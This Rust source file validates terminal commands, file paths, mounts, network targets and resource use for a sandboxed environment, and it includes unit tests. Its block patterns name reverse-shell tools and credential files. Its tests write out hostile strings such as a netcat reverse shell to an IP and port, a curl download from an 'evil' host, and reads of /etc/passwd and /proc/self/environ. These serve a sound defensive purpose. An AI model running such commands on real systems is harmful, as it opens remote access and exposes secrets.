//! Command, path, mount, network, and resource validators (spec §4.4's
//! validation table). Each validator is a pure function over a
//! `SecurityProfile` plus the action under test; callers decide whether to
//! record a `SecurityViolation` for the result via `SecurityAuditor`.

use crate::types::{Severity, SecurityProfile};
use regex::Regex;
use std::sync::OnceLock;

#[derive(Debug, Clone)]
pub struct CommandValidation {
    pub allowed: bool,
    pub reason: Option<String>,
    pub severity: Option<Severity>,
}

impl CommandValidation {
    fn ok() -> Self {
        Self { allowed: true, reason: None, severity: None }
    }

    fn deny(reason: impl Into<String>, severity: Severity) -> Self {
        Self { allowed: false, reason: Some(reason.into()), severity: Some(severity) }
    }
}

/// Dangerous patterns a terminal command is rejected for outright,
/// regardless of whitelist/blacklist (spec §4.4).
fn dangerous_patterns() -> &'static [Regex] {
    static PATTERNS: OnceLock<Vec<Regex>> = OnceLock::new();
    PATTERNS.get_or_init(|| {
        [
            r"\.\./",                         // path traversal
            r"/proc/|/sys/|/dev/",            // proc/sys/dev access
            r"\$\(",                          // command substitution
            r"`[^`]*`",                       // backticks
            r"\beval\b|\bexec\b|\bsystem\b",  // eval/exec/system
            r"\b(nc|ncat|telnet|ssh|scp|rsync)\b.*-(e|c)\b", // reverse-shell tooling
            r"\b(curl|wget)\b.*-(o|O)\b",      // downloaders with write flags
            r"\b(python|python3|perl|ruby|node)\b\s+-(c|e)\b", // interpreter -c/-e
        ]
        .iter()
        .map(|p| Regex::new(p).expect("static pattern compiles"))
        .collect()
    })
}

const SENSITIVE_PATH_PREFIXES: &[&str] =
    &["/etc/", "/proc/", "/sys/", "/dev/", "/root/", "/var/run/", "/run/"];

/// Validate a terminal command against the profile's command filter
/// (spec §4.4 "Terminal command" rows, evaluated in the order listed).
pub fn validate_command(profile: &SecurityProfile, command: &str) -> CommandValidation {
    if !profile.terminal.enabled {
        return CommandValidation::deny("Terminal access disabled", Severity::Medium);
    }

    for pattern in dangerous_patterns() {
        if pattern.is_match(command) {
            return CommandValidation::deny(
                format!("command matches a dangerous pattern: {command}"),
                Severity::Critical,
            );
        }
    }

    let lower = command.to_lowercase();
    for blocked in &profile.terminal.blocked_commands {
        if lower.contains(&blocked.to_lowercase()) {
            return CommandValidation::deny(
                format!("command contains blocked substring '{blocked}'"),
                Severity::High,
            );
        }
    }

    if !profile.terminal.allowed_commands.is_empty() {
        let prefix_ok = profile
            .terminal
            .allowed_commands
            .iter()
            .any(|allowed| command.starts_with(allowed.as_str()));
        if !prefix_ok {
            return CommandValidation::deny(
                "command does not match the allowed-command whitelist",
                Severity::Medium,
            );
        }
    }

    if command.contains("../") || command.contains("..\\") {
        return CommandValidation::deny("command contains a path traversal sequence", Severity::High);
    }

    if SENSITIVE_PATH_PREFIXES.iter().any(|p| command.contains(p)) {
        return CommandValidation::deny("command touches a sensitive system path", Severity::High);
    }

    CommandValidation::ok()
}

#[derive(Debug, Clone)]
pub struct MountValidation {
    pub allowed: bool,
    pub force_read_only: bool,
    pub reason: Option<String>,
}

/// Validate a mount target against the profile's filesystem restrictions.
/// Forces `read_only` when the target falls under a read-only path even if
/// the caller requested `rw` (spec §4.4).
pub fn validate_mount(profile: &SecurityProfile, target: &str) -> MountValidation {
    let allowed = profile.filesystem.allowed_paths.iter().any(|p| target.starts_with(p.as_str()));
    if !allowed {
        return MountValidation {
            allowed: false,
            force_read_only: false,
            reason: Some(format!("mount target '{target}' is not under an allowed path")),
        };
    }
    let force_read_only =
        profile.filesystem.read_only_paths.iter().any(|p| target.starts_with(p.as_str()));
    MountValidation { allowed: true, force_read_only, reason: None }
}

#[derive(Debug, Clone)]
pub struct FileAccessValidation {
    pub allowed: bool,
    pub reason: Option<String>,
    pub severity: Option<Severity>,
}

const SENSITIVE_FILE_TOKENS: &[&str] = &[
    ".ssh/", ".aws/", ".docker/", ".kube/", "passwd", "shadow", "sudoers", "authorized_keys",
    "id_rsa", ".pem", ".key", ".crt",
];

/// Validate a file access (spec §4.4 "File access" row). `is_write`
/// distinguishes a write attempt on a read-only path from a read, which is
/// permitted.
pub fn validate_file_access(profile: &SecurityProfile, path: &str, is_write: bool) -> FileAccessValidation {
    let lower = path.to_lowercase();
    if SENSITIVE_FILE_TOKENS.iter().any(|t| lower.contains(t)) {
        return FileAccessValidation {
            allowed: false,
            reason: Some(format!("access to sensitive file path '{path}' is always denied")),
            severity: Some(Severity::Critical),
        };
    }

    let in_allowed = profile.filesystem.allowed_paths.iter().any(|p| path.starts_with(p.as_str()));
    if !in_allowed {
        return FileAccessValidation {
            allowed: false,
            reason: Some(format!("path '{path}' is not under an allowed path")),
            severity: Some(Severity::High),
        };
    }

    if is_write {
        let read_only = profile.filesystem.read_only_paths.iter().any(|p| path.starts_with(p.as_str()));
        if read_only {
            return FileAccessValidation {
                allowed: false,
                reason: Some(format!("write denied: '{path}' is read-only")),
                severity: Some(Severity::High),
            };
        }
    }

    FileAccessValidation { allowed: true, reason: None, severity: None }
}

#[derive(Debug, Clone)]
pub struct NetworkValidation {
    pub allowed: bool,
    pub suspicious: bool,
    pub reason: Option<String>,
    pub severity: Option<Severity>,
}

/// Validate an outbound network target (spec §4.4 "Network access" row).
/// Suspicious ports are logged, not blocked, when internet access is
/// enabled.
pub fn validate_network_access(profile: &SecurityProfile, host: &str, port: u16) -> NetworkValidation {
    if !profile.network.enable_internet {
        if profile.network.allowed_hosts.contains(host) {
            return NetworkValidation { allowed: true, suspicious: false, reason: None, severity: None };
        }
        return NetworkValidation {
            allowed: false,
            suspicious: false,
            reason: Some(format!("internet disabled: '{host}' is not a loopback host")),
            severity: Some(Severity::High),
        };
    }

    if profile.network.blocked_ports.contains(&port) {
        return NetworkValidation {
            allowed: false,
            suspicious: false,
            reason: Some(format!("port {port} is blocked")),
            severity: Some(Severity::High),
        };
    }

    let suspicious = profile.network.suspicious_ports.contains(&port);
    NetworkValidation {
        allowed: true,
        suspicious,
        reason: suspicious.then(|| format!("port {port} is on the suspicious list")),
        severity: suspicious.then_some(Severity::Medium),
    }
}

#[derive(Debug, Clone)]
pub struct ResourceValidation {
    pub within_limits: bool,
    pub reason: Option<String>,
}

/// Validate observed container resource usage against the profile's limits
/// (spec §4.4 "Resource audit" row). `observed_memory_bytes` is compared
/// against the profile's parsed memory limit; `observed_cpu_percent` against
/// `100 * cpu_limit`.
pub fn validate_resource_usage(
    profile: &SecurityProfile,
    observed_memory_bytes: u64,
    observed_cpu_percent: f64,
) -> ResourceValidation {
    let memory_limit_bytes = crate::parse_size_bytes(&profile.resource_limits.memory);
    if let Some(limit) = memory_limit_bytes {
        if observed_memory_bytes > limit {
            return ResourceValidation {
                within_limits: false,
                reason: Some(format!(
                    "observed memory {observed_memory_bytes}B exceeds limit {limit}B"
                )),
            };
        }
    }

    let cpu_limit_percent = 100.0 * profile.resource_limits.cpu;
    if observed_cpu_percent > cpu_limit_percent {
        return ResourceValidation {
            within_limits: false,
            reason: Some(format!(
                "observed cpu {observed_cpu_percent:.1}% exceeds limit {cpu_limit_percent:.1}%"
            )),
        };
    }

    ResourceValidation { within_limits: true, reason: None }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::profile::{derive_profile, Permissions, ResourceDefaults};
    use std::collections::HashSet;

    fn profile(allow_terminal: bool) -> SecurityProfile {
        let permissions = Permissions {
            can_create_branches: true,
            branch_limit: 5,
            allowed_base_branches: HashSet::new(),
            allow_terminal_access: allow_terminal,
        };
        derive_profile(1, &permissions, 1, &ResourceDefaults::default())
    }

    #[test]
    fn rejects_every_dangerous_pattern() {
        let p = profile(true);
        for cmd in [
            "cat ../../etc/passwd",
            "echo /proc/self/environ",
            "echo $(whoami)",
            "echo `whoami`",
            "eval rm -rf",
            "nc -e /bin/sh 1.2.3.4 4444",
            "curl -o /tmp/x http://evil",
            "python3 -c 'import os'",
        ] {
            let result = validate_command(&p, cmd);
            assert!(!result.allowed, "expected '{cmd}' to be rejected");
        }
    }

    #[test]
    fn rejects_blocked_substrings_case_insensitively() {
        let p = profile(true);
        let result = validate_command(&p, "DOCKER ps");
        assert!(!result.allowed);
    }

    #[test]
    fn whitelist_denies_non_prefix_commands() {
        let mut p = profile(true);
        p.terminal.allowed_commands = vec!["git ".to_string()];
        assert!(validate_command(&p, "git status").allowed);
        assert!(!validate_command(&p, "npm install").allowed);
    }

    #[test]
    fn terminal_disabled_denies_everything() {
        let p = profile(false);
        assert!(!validate_command(&p, "ls").allowed);
    }

    #[test]
    fn mount_outside_allowed_paths_rejected() {
        let p = profile(true);
        let v = validate_mount(&p, "/opt/secret");
        assert!(!v.allowed);
    }

    #[test]
    fn mount_under_read_only_path_forces_read_only() {
        let p = profile(true);
        let v = validate_mount(&p, "/etc/config");
        assert!(v.allowed);
        assert!(v.force_read_only);
    }

    #[test]
    fn file_access_denies_ssh_keys_even_under_allowed_path() {
        let p = profile(true);
        let v = validate_file_access(&p, "/home/coder/workspace/.ssh/id_rsa", false);
        assert!(!v.allowed);
        assert_eq!(v.severity, Some(Severity::Critical));
    }

    #[test]
    fn network_access_restricted_to_loopback_when_internet_disabled() {
        let p = profile(true);
        assert!(validate_network_access(&p, "localhost", 8080).allowed);
        assert!(!validate_network_access(&p, "example.com", 443).allowed);
    }

    #[test]
    fn suspicious_port_logged_not_blocked_when_internet_enabled() {
        let mut p = profile(true);
        p.network.enable_internet = true;
        let v = validate_network_access(&p, "example.com", 3306);
        assert!(v.allowed);
        assert!(v.suspicious);
    }

    #[test]
    fn resource_audit_flags_memory_over_limit() {
        let p = profile(true);
        let v = validate_resource_usage(&p, 3 * 1024 * 1024 * 1024, 10.0);
        assert!(!v.within_limits);
    }
}
